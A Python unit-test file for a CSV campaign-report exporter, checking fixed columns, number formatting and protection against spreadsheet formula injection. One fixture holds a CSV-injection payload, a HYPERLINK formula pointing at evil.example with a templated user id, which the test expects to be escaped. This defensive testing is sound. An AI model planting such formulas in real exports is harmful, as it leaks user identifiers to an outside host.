"""A report as CSV: the same columns whatever is known, and no formulas."""

from __future__ import annotations

import csv
import io

import pytest

from connect.reports.counts import Report
from connect.reports.groups import By
from connect.reports.sheet import COLUMNS, sheet
from connect.vocabulary import Outcome
from tests.unit.reports.some_parts import ended, event, one_run, sent

FORMULA = '=HYPERLINK("https://evil.example/{{ user.id }}")'
FULL = one_run(
    [sent(1000, arm="@arm"), ended(Outcome.skipped, 40, "unsubscribed")],
    *(event("delivered", 900), event("opened", 450, 300), event("clicked", 9, link=FORMULA), event("clicked", 0, 9)),
)


def rows(*reports: Report, by: By | None = None) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(sheet(reports, by))))


@pytest.mark.parametrize("by", [None, *By])
def test_columns_are_always_the_same(by: By | None) -> None:
    for found in (FULL, one_run([sent(1)])):
        lines = list(csv.reader(io.StringIO(sheet([found], by))))
        assert tuple(lines[0]) == COLUMNS
        assert all(len(line) == len(COLUMNS) for line in lines)
    assert len(set(COLUMNS)) == len(COLUMNS)


def test_numbers_are_numbers_and_blank_is_not_known() -> None:
    (row,) = rows(FULL)
    assert (row["campaign"], row["by"], row["name"]) == ("hello", "campaign", "hello")
    assert (row["sent"], row["skipped"], row["failed"]) == ("1000", "40", "0")
    assert (row["opened_total"], row["opened_unique"], row["opened_rate"]) == ("450", "300", "0.333333")
    assert (row["opened_base"], row["opened_of"]) == ("900", "delivered")
    assert row["complained_total"] == row["complained_rate"] == row["converted_unique"] == ""


def test_no_cell_is_a_formula() -> None:
    (link,) = [row["name"] for row in rows(FULL, by=By.link)]
    assert link == f"'{FORMULA}"
    assert {row["name"] for row in rows(FULL, by=By.arm)} == {"", "'@arm"}


def test_runs_have_their_time_and_several_campaigns_one_table() -> None:
    found = rows(FULL, FULL, by=By.run)
    assert [row["name"] for row in found] == ["r1", "r1"]
    assert found[0]["fire_time"] == "2026-09-02T23:30:00+00:00"
    assert sheet([], None).count("\n") == 1
